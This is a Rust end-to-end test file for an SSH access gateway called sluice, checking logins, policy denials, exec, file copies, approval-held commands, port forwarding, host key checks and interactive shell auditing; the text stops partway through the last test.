#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The SSH listener end to end, with the real OpenSSH clients in front and the scratch sshd
//! behind: logins by key and by token, connects refused by policy, exec with its streams and
//! exit status, refused and held commands, legacy scp and rsync, local forwarding, agent
//! forwarding refused, the target's host key pinned and trusted on first use, an interactive
//! shell with its typed lines decided and its recording played by asciinema, and masking of a
//! command's output. Each test has a gateway and a policy directory of its own
//! (support::ssh::SshGateway); the sshd is shared.

mod support;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use sluice::scratch_pg::free_port;
use sluice::scratch_sshd::keygen;
use support::poll_until;
use support::ssh::*;

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn both(o: &Output) -> String {
    format!(
        "exit {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        out(o),
        err(o)
    )
}

/// Deterministic bytes that are not all alike, so that a truncated or reordered copy shows.
fn pattern(len: usize) -> Vec<u8> {
    let mut x: u32 = 0x2545_f491;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect()
}

fn of_type<'a>(audit: &'a [Value], kind: &str) -> Vec<&'a Value> {
    audit.iter().filter(|r| r["type"] == kind).collect()
}

/// The `statement` record (a command, a channel, a typed line) whose text is `text`.
#[track_caller]
fn request<'a>(audit: &'a [Value], text: &str) -> &'a Value {
    audit
        .iter()
        .find(|r| r["type"] == "statement" && r["text"] == text)
        .unwrap_or_else(|| {
            panic!(
                "no audit record of {text:?}; requests seen: {:?}",
                of_type(audit, "statement")
                    .iter()
                    .map(|r| r["text"].to_string())
                    .collect::<Vec<_>>()
            )
        })
}

/// The `statement_result` that finishes `record`.
#[track_caller]
fn result_of<'a>(audit: &'a [Value], record: &Value) -> &'a Value {
    audit
        .iter()
        .find(|r| {
            r["type"] == "statement_result"
                && r["session"] == record["session"]
                && r["statement"] == record["statement"]
        })
        .unwrap_or_else(|| panic!("no result for {record}"))
}

/// The id of the one session `identity` opened on `target`.
#[track_caller]
fn session_of(audit: &[Value], identity: &str, target: &str) -> String {
    let ids: Vec<&Value> = of_type(audit, "session_started")
        .into_iter()
        .filter(|r| r["identity"] == identity && r["target"] == target)
        .collect();
    assert_eq!(ids.len(), 1, "{ids:?}");
    ids[0]["session"].as_str().unwrap().to_owned()
}

// ---- 1. Logins ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logins_by_registered_key_and_by_token() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;

    // A registered key, IDENTITY+TARGET.
    let o = run_async(g.ssh("alice", "host", &["echo", "in-as-$(id -un)"])).await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), format!("in-as-{}\n", sshd().user()));

    // A key nobody registered.
    let tmp = tempfile::tempdir().unwrap();
    let (stranger, stranger_pub) = keygen(tmp.path(), "stranger").unwrap();
    let o = run_async(ssh_cmd(g.port(), "alice+host", &stranger, &["echo", "in"])).await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));
    assert!(err(&o).contains("Permission denied"), "{}", both(&o));
    assert!(out(&o).is_empty());

    // Another identity's key does not log in as alice.
    let o = run_async(ssh_cmd(g.port(), "alice+host", &g.key("dana"), &["true"])).await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));

    // No +TARGET, and the listener has no default_target.
    let o = run_async(ssh_cmd(g.port(), "alice", &g.key("alice"), &["echo", "in"])).await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));
    assert!(out(&o).is_empty());

    // A target that does not exist.
    let o = run_async(g.ssh("alice", "nowhere", &["echo", "in"])).await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));
    assert!(out(&o).is_empty());

    // A token as the password (sshpass types it at the prompt).
    let o = run_async(ssh_password_cmd(
        g.port(),
        "alice+host",
        g.token("alice"),
        &["echo", "token-login"],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), "token-login\n");

    // A wrong token, and another identity's token.
    let o = run_async(ssh_password_cmd(
        g.port(),
        "alice+host",
        "not-a-token",
        &["echo", "token-login"],
    ))
    .await;
    assert!(!o.status.success(), "{}", both(&o));
    assert!(out(&o).is_empty());
    let o = run_async(ssh_password_cmd(
        g.port(),
        "alice+host",
        g.token("ci"),
        &["echo", "token-login"],
    ))
    .await;
    assert!(!o.status.success(), "{}", both(&o));
    assert!(out(&o).is_empty());

    // A key registered with `sluice identity add-key` while the gateway runs.
    let pub_file = tmp.path().join("stranger.pub");
    assert_eq!(
        std::fs::read_to_string(&pub_file).unwrap().trim(),
        stranger_pub
    );
    let added =
        run_async(g.sluice(&["identity", "add-key", "alice", pub_file.to_str().unwrap()])).await;
    assert!(added.status.success(), "{}", both(&added));
    assert!(
        out(&added).contains("registered to alice"),
        "{}",
        both(&added)
    );
    let o = run_async(ssh_cmd(
        g.port(),
        "alice+host",
        &stranger,
        &["echo", "added-key"],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), "added-key\n");
    // Registered to alice only.
    let o = run_async(ssh_cmd(g.port(), "dana+host", &stranger, &["true"])).await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));

    let keys = run_async(g.sluice(&["identity", "keys", "alice"])).await;
    assert!(keys.status.success(), "{}", both(&keys));
    assert!(out(&keys).contains("\tstore\tstranger"), "{}", both(&keys));

    // Three sessions logged in: alice by key, by token and by the added key.
    let audit = g.audit_json().await;
    let started: Vec<&Value> = of_type(&audit, "session_started")
        .into_iter()
        .filter(|r| r["protocol"] == "ssh")
        .collect();
    assert_eq!(started.len(), 3, "{started:?}");
    assert!(started
        .iter()
        .all(|r| r["identity"] == "alice" && r["target"] == "host"));
    g.h.stop().await;
}

/// A wrong token is a failed login on record, as at the PostgreSQL listener (a
/// `connection_rejected` naming the identity claimed). Fails today: a client that gives up
/// after failed logins leaves no record (connection.rs: the connection ends with
/// `refused_silently`, which claims no identity).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_token_login_is_audited() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let o = run_async(ssh_password_cmd(
        g.port(),
        "alice+host",
        "not-a-token",
        &["true"],
    ))
    .await;
    assert!(!o.status.success(), "{}", both(&o));
    let audit = g.audit_json().await;
    let rejected = of_type(&audit, "connection_rejected");
    assert!(
        rejected
            .iter()
            .any(|r| r["identity"] == "alice" && r["target"] == "host" && r["protocol"] == "ssh"),
        "{rejected:?}"
    );
    assert!(of_type(&audit, "session_started").is_empty());
    g.h.stop().await;
}

// ---- 2. A connect refused by policy ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connect_denied_by_policy_names_the_reason() {
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
deny contains {{\"rule\": \"no_services_on_production\", \"reason\": sprintf(\"%s is a service and may not log in to production target %s\", [input.identity.name, input.target.name])}} if {{
	input.request.action == \"connect\"
	input.identity.kind == \"service\"
	input.target.tags.environment == \"production\"
}}
"
    );
    let g = SshGateway::start(&rules).await;
    let refused = run_async(g.ssh("ci-bot", "host-prod", &["echo", "in"])).await;
    assert_eq!(refused.status.code(), Some(255), "{}", both(&refused));
    assert!(out(&refused).is_empty(), "{}", both(&refused));
    // The same identity elsewhere is fine.
    let o = run_async(g.ssh("ci-bot", "host", &["echo", "in"])).await;
    assert!(o.status.success(), "{}", both(&o));

    let audit = g.audit_json().await;
    let rejected = of_type(&audit, "connection_rejected");
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    assert_eq!(rejected[0]["identity"], "ci-bot");
    assert_eq!(rejected[0]["target"], "host-prod");
    assert_eq!(rejected[0]["protocol"], "ssh");
    let reason = rejected[0]["reason"].as_str().unwrap();
    assert!(
        reason.contains("ci-bot is a service and may not log in to production target host-prod"),
        "{reason}"
    );
    g.h.stop().await;
    // ssh prints the disconnect message: the policy's reason.
    assert!(
        err(&refused)
            .contains("ci-bot is a service and may not log in to production target host-prod"),
        "{}",
        both(&refused)
    );
}

// ---- 3. Exec ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_passes_streams_and_status_and_a_denied_command_exits_126() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let command = "echo out; echo err >&2; exit 7";
    let o = run_async(g.ssh("alice", "host", &[command])).await;
    assert_eq!(o.status.code(), Some(7), "{}", both(&o));
    assert_eq!(out(&o), "out\n");
    assert_eq!(err(&o), "err\n");

    // Standard input reaches the command.
    let mut cat = g.ssh("alice", "host", &["wc", "-c"]);
    let input = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(input.path(), pattern(100_000)).unwrap();
    cat.stdin(std::fs::File::open(input.path()).unwrap());
    let o = run_async(cat).await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o).trim(), "100000");

    let denied = "echo forbidden-$((6 * 7))";
    let o = run_async(g.ssh("alice", "host", &[denied])).await;
    assert_eq!(o.status.code(), Some(126), "{}", both(&o));
    assert!(out(&o).is_empty(), "{}", both(&o));
    assert!(
        err(&o).contains("sluice: denied by policy rule forbidden_command: "),
        "{}",
        both(&o)
    );
    assert!(
        err(&o).contains("mentions something forbidden"),
        "{}",
        both(&o)
    );

    let audit = g.audit_json().await;
    let ran = request(&audit, command);
    assert_eq!(ran["identity"], "alice");
    assert_eq!(ran["target"], "host");
    assert_eq!(ran["decision"]["verdict"], "allow");
    assert_eq!(ran["decision"]["rule"], "all_commands");
    let result = result_of(&audit, ran);
    assert_eq!(result["outcome"]["status"], "error", "{result}");
    assert!(
        result.to_string().contains("exited with status 7"),
        "{result}"
    );

    let refused = request(&audit, denied);
    assert_eq!(refused["decision"]["verdict"], "deny");
    assert_eq!(refused["decision"]["rule"], "forbidden_command");
    g.h.stop().await;
}

/// What a command does through sluice is what it does against sshd directly: output with
/// and without a final newline, large output, error output, exit statuses, and death by a
/// signal.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_through_sluice_matches_sshd_directly() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let s = sshd();
    let commands = [
        "printf no-newline",
        "head -c 300000 /dev/zero | tr '\\0' x",
        "echo to-err >&2; printf partial >&2; exit 3",
        "exit 255",
        "echo before; kill -TERM $$; echo after",
        "echo before; kill -KILL $$",
        "seq 1 20000",
    ];
    for command in commands {
        let direct = run_async(ssh_cmd(s.port(), s.user(), &s.key_file(), &[command])).await;
        let through = run_async(g.ssh("alice", "host", &[command])).await;
        assert_eq!(
            (through.status.code(), &through.stdout, err(&through)),
            (direct.status.code(), &direct.stdout, err(&direct)),
            "{command}: through sluice {}\ndirectly {}",
            both(&through),
            both(&direct)
        );
    }
    g.h.stop().await;
}

/// X11 forwarding is never carried; the attempt is on record.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn x11_forwarding_is_refused_and_on_record() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let mut cmd = g.ssh("alice", "host", &["-X", "echo", "display:${DISPLAY:-none}"]);
    cmd.env("DISPLAY", "127.0.0.1:99");
    let o = run_async(cmd).await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), "display:none\n", "{}", both(&o));
    let audit = g.audit_json().await;
    let x11 = request(&audit, "x11");
    assert_eq!(x11["decision"]["verdict"], "deny", "{x11}");
    g.h.stop().await;
}

// ---- 4. Legacy scp and rsync ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn legacy_scp_and_rsync_copy_through_sluice() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let tmp = tempfile::tempdir().unwrap();
    let data = pattern(2 * 1024 * 1024 + 11);
    let local = tmp.path().join("local.bin");
    std::fs::write(&local, &data).unwrap();
    let uploaded = tmp.path().join("uploaded.bin");
    let downloaded = tmp.path().join("downloaded.bin");

    let o = run_async(g.scp(
        "alice",
        &[
            "-O",
            local.to_str().unwrap(),
            &remote("alice+host", &uploaded),
        ],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert!(std::fs::read(&uploaded).unwrap() == data, "upload differs");

    let o = run_async(g.scp(
        "alice",
        &[
            "-O",
            &remote("alice+host", &uploaded),
            downloaded.to_str().unwrap(),
        ],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert!(
        std::fs::read(&downloaded).unwrap() == data,
        "download differs"
    );

    // rsync, a tree up and back.
    let src = tmp.path().join("src");
    std::fs::create_dir_all(src.join("a/b")).unwrap();
    std::fs::write(src.join("top.txt"), "top\n").unwrap();
    std::fs::write(src.join("a/b/data.bin"), pattern(300_000)).unwrap();
    let dest = tmp.path().join("dest");
    let o = run_async(g.rsync(
        "alice",
        &[
            "-a",
            &format!("{}/", src.display()),
            &remote("alice+host", format!("{}/", dest.display())),
        ],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(std::fs::read(dest.join("top.txt")).unwrap(), b"top\n");
    assert!(std::fs::read(dest.join("a/b/data.bin")).unwrap() == pattern(300_000));
    let back = tmp.path().join("back");
    let o = run_async(g.rsync(
        "alice",
        &[
            "-a",
            &remote("alice+host", format!("{}/", dest.display())),
            &format!("{}/", back.display()),
        ],
    ))
    .await;
    assert!(o.status.success(), "{}", both(&o));
    assert!(std::fs::read(back.join("a/b/data.bin")).unwrap() == pattern(300_000));

    // Each transfer is a command on record.
    let audit = g.audit_json().await;
    let commands: Vec<String> = of_type(&audit, "statement")
        .iter()
        .filter_map(|r| r["text"].as_str())
        .filter(|t| t.starts_with("scp ") || t.starts_with("rsync "))
        .map(str::to_owned)
        .collect();
    assert!(
        commands.iter().any(|c| c.starts_with("scp -t")),
        "{commands:?}"
    );
    assert!(
        commands.iter().any(|c| c.starts_with("scp -f")),
        "{commands:?}"
    );
    assert_eq!(
        commands
            .iter()
            .filter(|c| c.starts_with("rsync --server"))
            .count(),
        2,
        "{commands:?}"
    );
    g.h.stop().await;
}

// ---- 5. A held command ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_held_sudo_command_runs_once_a_dba_approves() {
    held_sudo(Input::OpenSilent).await;
}

/// Input typed while the command waits for its review reaches it once approved. Fails today:
/// the wait reads the client's channel and drops its data (relay/session.rs, decide_waiting).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn input_sent_while_a_command_is_held_reaches_it_once_approved() {
    held_sudo(Input::TypedAhead).await;
}

/// As above with nothing on standard input (a script's `ssh host cmd </dev/null`, `ssh -n`):
/// the client sends EOF at once, which must not cancel the review.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_held_command_without_input_still_waits_for_its_review() {
    held_sudo(Input::Closed).await;
}

/// The client's standard input while its command is held.
#[derive(PartialEq)]
enum Input {
    /// /dev/null: EOF at once.
    Closed,
    /// Open, nothing written, closed after the approval (a person at a terminal).
    OpenSilent,
    /// `typed-ahead` written at once, closed after the approval.
    TypedAhead,
}

/// A `sudo` command held for a dba, approved; it prints `approved-42` and then its input.
async fn held_sudo(input: Input) {
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
approvals contains {{\"groups\": [\"dba\"], \"approvals\": 1, \"reason\": sprintf(\"sudo by %s\", [input.identity.name])}} if {{
	program_name(shell_command.argv[0]) == \"sudo\"
}}
"
    );
    let g = SshGateway::start(&rules).await;
    // No sudo here: a stand-in that runs its arguments, on the target side (the same machine).
    let tmp = tempfile::tempdir().unwrap();
    let sudo = tmp.path().join("sudo");
    std::fs::write(&sudo, "#!/bin/sh\nexec \"$@\"\n").unwrap();
    std::fs::set_permissions(
        &sudo,
        <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755),
    )
    .unwrap();
    let command = format!("{} sh -c 'echo approved-$((6 * 7)); cat'", sudo.display());
    let mut cmd = g.ssh("alice", "host", &[&command]);
    // Standard input from a process that ends when told to.
    let typed = if input == Input::TypedAhead {
        "printf typed-ahead; exec sleep 60"
    } else {
        "exec sleep 60"
    };
    let mut feeder = Background(
        Command::new("sh")
            .args(["-c", typed])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    if input != Input::Closed {
        cmd.stdin(Stdio::from(feeder.0.stdout.take().unwrap()));
    }
    let client = tokio::task::spawn_blocking(move || run(&mut cmd));

    let review = poll_until(Duration::from_secs(10), || async {
        let o = run_async(g.cli_as("dana", &["review", "list", "--json"])).await;
        assert!(o.status.success(), "{}", both(&o));
        let reviews: Value = serde_json::from_str(&out(&o)).unwrap();
        reviews.as_array().unwrap().first().cloned()
    })
    .await;
    let Some(review) = review else {
        let o = client.await.unwrap();
        panic!(
            "no review was opened; the client: {}\naudit: {:#?}",
            both(&o),
            g.audit_json().await
        );
    };
    let id = review["id"].as_str().unwrap().to_owned();
    assert!(
        review.to_string().contains("approved-$((6 * 7))"),
        "{review}"
    );
    // The client is still waiting.
    assert!(!client.is_finished());

    // The requester cannot approve her own request... and alice is no dba anyway.
    let o = run_async(g.cli_as("alice", &["review", "approve", &id])).await;
    assert!(!o.status.success(), "{}", both(&o));
    let o = run_async(g.cli_as("dana", &["review", "approve", &id])).await;
    assert!(o.status.success(), "{}", both(&o));

    // Input ends once the command runs.
    tokio::time::sleep(Duration::from_millis(500)).await;
    drop(feeder);
    let o = client.await.unwrap();
    assert!(o.status.success(), "{}", both(&o));
    let expected = if input == Input::TypedAhead {
        "approved-42\ntyped-ahead"
    } else {
        "approved-42\n"
    };
    assert_eq!(out(&o), expected, "{}", both(&o));
    assert!(
        err(&o).contains(&format!("sluice review approve {id}")),
        "{}",
        both(&o)
    );

    let audit = g.audit_json().await;
    let held = request(&audit, &command);
    assert_eq!(held["decision"]["verdict"], "hold");
    assert!(of_type(&audit, "review_settled")
        .iter()
        .any(|r| r["review"] == id.as_str() && r["state"] == "approved"));
    g.h.stop().await;
}

// ---- 6. Local forwarding ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn local_forwarding_is_denied_unless_the_policy_allows_the_destination() {
    let allowed = EchoServer::start();
    let other = EchoServer::start();
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
allow contains {{\"rule\": \"echo_forward\", \"reason\": \"the echo server may be reached\"}} if {{
	channel.type == \"direct-tcpip\"
	channel.host == \"127.0.0.1\"
	channel.port == {}
}}
",
        allowed.port
    );
    let g = SshGateway::start(&rules).await;
    let payload = pattern(50_000);

    for (echo, expect) in [(&other, false), (&allowed, true)] {
        let local = free_port().unwrap();
        let forward = format!("127.0.0.1:{local}:127.0.0.1:{}", echo.port);
        let mut ssh = Background::spawn(&mut g.ssh(
            "alice",
            "host",
            &["-N", "-o", "ExitOnForwardFailure=yes", "-L", &forward],
        ));
        let sent = payload.clone();
        let got = tokio::task::spawn_blocking(move || {
            // The forward's listener opens once ssh has logged in.
            let up = wait_until(Duration::from_secs(10), || {
                std::net::TcpStream::connect(("127.0.0.1", local)).is_ok()
            });
            assert!(up, "ssh -L never listened");
            echo_round_trip(local, &sent, Duration::from_secs(5))
        })
        .await
        .unwrap();
        assert!(ssh.running(), "ssh -L exited");
        if expect {
            assert!(got.as_deref() == Some(&payload[..]), "no echo");
            // The forwarded connection is closed; its record is finished once the close has
            // gone through the target and back, while the session still runs.
            let finished = poll_until(Duration::from_secs(10), || async {
                g.audit_now()
                    .await
                    .iter()
                    .any(|r| r["type"] == "statement_result" && r["command_tag"] == EXPECTED_BYTES)
                    .then_some(())
            })
            .await;
            assert!(finished.is_some(), "{:#?}", g.audit_now().await);
        } else {
            assert!(got.is_none(), "a denied forward echoed");
        }
        drop(ssh);
    }

    let audit = g.audit_json().await;
    let denied = request(&audit, &format!("direct-tcpip 127.0.0.1:{}", other.port));
    assert_eq!(denied["decision"]["verdict"], "deny", "{denied}");
    // The probe that waited for the listener opened a channel too; one carried the payload.
    let text = format!("direct-tcpip 127.0.0.1:{}", allowed.port);
    let carried: Vec<&Value> = of_type(&audit, "statement")
        .into_iter()
        .filter(|r| r["text"] == text.as_str())
        .collect();
    assert!(!carried.is_empty(), "{text} not on record");
    for c in &carried {
        assert_eq!(c["decision"]["verdict"], "allow", "{c}");
        assert_eq!(c["decision"]["rule"], "echo_forward");
    }
    let results: Vec<String> = carried
        .iter()
        .map(|c| result_of(&audit, c).to_string())
        .collect();
    assert!(
        results.iter().any(|r| r.contains(EXPECTED_BYTES)),
        "{results:?}"
    );
    g.h.stop().await;
}

/// Remote forwarding (`ssh -R`): the listen request and the connections back are decided;
/// an allowed one carries bytes from the target's side to the client's echo server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn remote_forwarding_is_decided_and_carried() {
    let echo = EchoServer::start();
    let allowed = free_port().unwrap();
    let refused = free_port().unwrap();
    let rules = format!(
        "{ALL_COMMANDS_POLICY}
allow contains {{\"rule\": \"remote_forward\", \"reason\": \"one port may be forwarded back\"}} if {{
	channel.type in {{\"tcpip-forward\", \"forwarded-tcpip\"}}
	channel.host == \"127.0.0.1\"
	channel.port == {allowed}
}}
"
    );
    let g = SshGateway::start(&rules).await;

    // A port the policy does not allow: the client is told the forward failed.
    let o = run_async(g.ssh(
        "alice",
        "host",
        &[
            "-o",
            "ExitOnForwardFailure=yes",
            "-R",
            &format!("127.0.0.1:{refused}:127.0.0.1:{}", echo.port),
            "echo",
            "up",
        ],
    ))
    .await;
    assert_eq!(o.status.code(), Some(255), "{}", both(&o));
    assert!(
        err(&o).contains("remote port forwarding failed"),
        "{}",
        both(&o)
    );

    let ssh = Background::spawn(&mut g.ssh(
        "alice",
        "host",
        &[
            "-N",
            "-o",
            "ExitOnForwardFailure=yes",
            "-R",
            &format!("127.0.0.1:{allowed}:127.0.0.1:{}", echo.port),
        ],
    ));
    let payload = pattern(20_000);
    let sent = payload.clone();
    let got = tokio::task::spawn_blocking(move || {
        echo_when_ready(allowed, &sent, Duration::from_secs(10))
    })
    .await
    .unwrap();
    assert!(got.as_deref() == Some(&payload[..]), "ssh -R did not echo");
    tokio::time::sleep(Duration::from_millis(500)).await;
    drop(ssh);

    let audit = g.audit_json().await;
    let listen = request(&audit, &format!("tcpip-forward 127.0.0.1:{refused}"));
    assert_eq!(listen["decision"]["verdict"], "deny", "{listen}");
    let listen = request(&audit, &format!("tcpip-forward 127.0.0.1:{allowed}"));
    assert_eq!(listen["decision"]["verdict"], "allow", "{listen}");
    let back = request(&audit, &format!("forwarded-tcpip 127.0.0.1:{allowed}"));
    assert_eq!(back["decision"]["verdict"], "allow", "{back}");
    g.h.stop().await;
}

const EXPECTED_BYTES: &str = "50000 bytes to the target, 50000 bytes to the client";

// ---- 7. Agent forwarding ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_forwarding_is_refused_and_on_record() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    let tmp = tempfile::tempdir().unwrap();
    let sock = tmp.path().join("agent.sock");
    // -D: in the foreground, so that it is our child and dies with the test.
    let _agent = Background::spawn(
        Command::new("ssh-agent")
            .arg("-D")
            .arg("-a")
            .arg(&sock)
            .stdin(Stdio::null()),
    );
    assert!(
        wait_until(Duration::from_secs(5), || sock.exists()),
        "ssh-agent did not start"
    );
    let mut cmd = g.ssh(
        "alice",
        "host",
        &["-A", "echo", "agent:${SSH_AUTH_SOCK:-none}"],
    );
    // The agent is the one just started (it holds no keys); the key file logs in.
    let args: Vec<String> = cmd
        .get_args()
        .map(|a| a.to_string_lossy().into_owned())
        .map(|a| {
            if a == "IdentityAgent=none" {
                format!("IdentityAgent={}", sock.display())
            } else {
                a
            }
        })
        .collect();
    cmd = Command::new("ssh");
    cmd.args(&args)
        .env("SSH_AUTH_SOCK", &sock)
        .stdin(Stdio::null());
    let o = run_async(cmd).await;
    assert!(o.status.success(), "{}", both(&o));
    assert_eq!(out(&o), "agent:none\n", "{}", both(&o));

    let audit = g.audit_json().await;
    let agent = request(&audit, "auth-agent");
    assert_eq!(agent["decision"]["verdict"], "deny", "{agent}");
    assert_eq!(agent["identity"], "alice");
    g.h.stop().await;
}

// ---- 8. The target's host key ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_changed_host_key_refuses_the_login_pinned_or_trusted_on_first_use() {
    let s = tokio::task::spawn_blocking(sshd).await.unwrap();
    let keys = tempfile::tempdir().unwrap();
    let (_, impostor) = keygen(keys.path(), "impostor").unwrap();
    let impostor: Vec<&str> = impostor.split(' ').take(2).collect();
    let extra = format!(
        r#"
[[targets]]
name = "host-pinned-wrong"
kind = "ssh"
host = "127.0.0.1"
port = {port}
user = "{user}"
key_file = "{key}"
host_key = "{wrong}"

[[targets]]
name = "host-tofu"
kind = "ssh"
host = "127.0.0.1"
port = {port}
user = "{user}"
key_file = "{key}"
"#,
        port = s.port(),
        user = s.user(),
        key = s.key_file().display(),
        wrong = impostor.join(" "),
    );
    let g = SshGateway::start_with(ALL_COMMANDS_POLICY, &extra).await;

    let pinned_wrong = run_async(g.ssh("alice", "host-pinned-wrong", &["echo", "in"])).await;
    assert_eq!(
        pinned_wrong.status.code(),
        Some(255),
        "{}",
        both(&pinned_wrong)
    );
    assert!(out(&pinned_wrong).is_empty());

    // Trusted at first use, known at the second.
    for _ in 0..2 {
        let o = run_async(g.ssh("alice", "host-tofu", &["echo", "in"])).await;
        assert!(o.status.success(), "{}", both(&o));
        assert_eq!(out(&o), "in\n");
    }
    let audit = g.audit_json().await;
    let ended: Vec<&Value> = of_type(&audit, "session_ended")
        .into_iter()
        .filter(|r| r["target"] == "host-pinned-wrong")
        .collect();
    assert_eq!(ended.len(), 1, "{ended:?}");
    assert!(
        ended[0]["reason"]
            .as_str()
            .unwrap()
            .contains("host key has changed"),
        "{}",
        ended[0]
    );
    let trusted: Vec<&Value> = of_type(&audit, "host_key_trusted")
        .into_iter()
        .filter(|r| r["target"] == "host-tofu")
        .collect();
    assert_eq!(trusted.len(), 1, "{trusted:?}");
    assert_eq!(trusted[0]["fingerprint"], s.host_key_fingerprint());

    // The host is rebuilt: another sshd, another host key, under the same target name.
    let rebuilt_dir = tempfile::tempdir().unwrap().keep();
    let rebuilt = tokio::task::spawn_blocking(move || {
        sluice::scratch_sshd::ScratchSshd::start(&rebuilt_dir).unwrap()
    })
    .await
    .unwrap();
    let (old_port, new_port) = (s.port(), rebuilt.port());
    let (old_key, new_key) = (
        s.key_file().display().to_string(),
        rebuilt.key_file().display().to_string(),
    );
    let g = g
        .restart(move |text| {
            let tofu = text.find("name = \"host-tofu\"").unwrap();
            let (head, tail) = text.split_at(tofu);
            let end = tail.find("\n[").unwrap_or(tail.len());
            let entry = tail[..end]
                .replace(&format!("port = {old_port}"), &format!("port = {new_port}"))
                .replace(&old_key, &new_key);
            format!("{head}{entry}{}", &tail[end..])
        })
        .await;
    let changed = run_async(g.ssh("alice", "host-tofu", &["echo", "in"])).await;
    assert_eq!(changed.status.code(), Some(255), "{}", both(&changed));
    assert!(out(&changed).is_empty());
    let audit = g.audit_json().await;
    assert_eq!(of_type(&audit, "host_key_trusted").len(), 1);
    let ended: Vec<&Value> = of_type(&audit, "session_ended")
        .into_iter()
        .filter(|r| r["target"] == "host-tofu")
        .collect();
    let last = ended.last().unwrap()["reason"].as_str().unwrap();
    assert!(last.contains("host key has changed"), "{last}");
    assert!(last.contains(rebuilt.host_key_fingerprint()), "{last}");
    assert!(last.contains("trusted at first use"), "{last}");
    g.h.stop().await;

    // The client is told why, in the disconnect message ssh prints.
    for (o, offered) in [
        (&pinned_wrong, s.host_key_fingerprint()),
        (&changed, rebuilt.host_key_fingerprint()),
    ] {
        assert!(err(o).contains("host key has changed"), "{}", both(o));
        assert!(err(o).contains(offered), "{}", both(o));
    }
    drop(rebuilt);
}

// ---- 9. An interactive shell ----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interactive_shell_decides_typed_lines_and_is_recorded() {
    let g = SshGateway::start(ALL_COMMANDS_POLICY).await;
    assert!(sshd().ptys_available());
    let cmd = g.ssh("alice", "host", &["-tt"]);
    let shell = tokio::task::spawn_blocking(move || {
        let shell = PtyShell::start(&cmd);
        let wait = Duration::from_secs(30);
        // The prompt of root's or another user's shell.
        let deadline = Instant::now() + wait;
        loop {
            let screen = shell.screen();
            if screen.contains("# ") || screen.contains("$ ") {
                break;
            }
            assert!(Instant::now() < deadline, "no prompt:\n{screen}");
            std::thread::sleep(Duration::from_millis(25));
        }
        shell.type_line("echo hi-$((40 + 2))");
        shell.wait_for("hi-42", wait);

        shell.type_line("stty size | sed s/^/size:/");
        shell.wait_for("size:40 120", wait);
        shell.resize(100, 30);
        shell.type_line("stty size | sed s/^/size:/");
        shell.wait_for("size:30 100", wait);

        shell.type_line("sleep 100");
        std::thread::sleep(Duration::from_millis(300));
        shell.send_keys(&["C-c"]);
        shell.type_line("echo back-$((1 + 1))");
        shell.wait_for("back-2", Duration::from_secs(5));

        shell.type_line("echo forbidden-$((6 * 7))");
        let screen = shell.wait_for("denied by policy rule forbidden_command", wait);
        // The shell is still there, and the line never ran.
        shell.type_line("echo after-$((2 + 3))");
        let screen2 = shell.wait_for("after-5", wait);
        assert!(!screen2.contains("forbidden-42"), "{screen2}");
        shell.type_line("exit 3");
        let status = shell.wait_exit(wait);
        (status, screen)
    })
    .await
    .unwrap();
    // The exit status the client saw is the shell's, passed on by the gateway.
    assert_eq!(shell.0, 3, "{}", shell.1);

    let audit = g.audit_json().await;
    let shell_outcome = of_type(&audit, "statement_result")
        .into_iter()
        .any(|r| r["outcome"]["message"] == "exited with status 3");
    assert!(shell_outcome, "the shell's exit status 3 is not on record");
